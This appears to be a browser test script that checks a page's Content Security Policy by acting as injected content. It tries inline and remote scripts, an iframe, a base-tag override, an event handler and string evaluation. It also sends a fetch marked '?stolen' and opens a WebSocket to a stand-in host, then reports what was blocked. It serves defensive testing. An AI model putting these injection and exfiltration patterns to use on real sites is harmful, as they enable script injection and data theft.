// What somebody tries whose text got into the page; says what came of it.
async () => {
  const seen = [];
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => seen.push(effectiveDirective));
  const wait = () => new Promise((resolve) => setTimeout(resolve, 300));
  const put = (name, change) => {
    const made = document.createElement(name);
    change(made);
    document.body.append(made);
  };
  put("script", (made) => { made.textContent = "window.ran = 'inline'"; });
  put("script", (made) => { made.src = "data:text/javascript,window.ran='data'"; });
  put("script", (made) => { made.src = "https://elsewhere.example.test/x.js"; });
  put("img", (made) => { made.src = "https://elsewhere.example.test/x.png"; });
  put("iframe", (made) => { made.srcdoc = "<script>parent.ran = 'frame'</script>"; });
  put("base", (made) => { made.href = "https://elsewhere.example.test/"; });
  const holder = document.createElement("p");
  holder.innerHTML = "<b onclick=\"window.ran = 'handler'\">b</b>";
  document.body.append(holder);
  holder.firstChild.click();
  setTimeout("window.ran = 'text'");
  setTimeout(() => { window.made = new Function("return 'eval'"); });
  const refused = await fetch("https://elsewhere.example.test/?stolen").then(() => false, () => true);
  const socket = await new Promise((resolve) => {
    try {
      const made = new WebSocket("wss://elsewhere.example.test/");
      made.onerror = () => resolve("refused");
      made.onopen = () => resolve("open");
    } catch { resolve("refused"); }
  });
  await wait();
  return { ran: window.ran ?? "", made: Boolean(window.made), refused, socket, base: document.baseURI, seen };
}
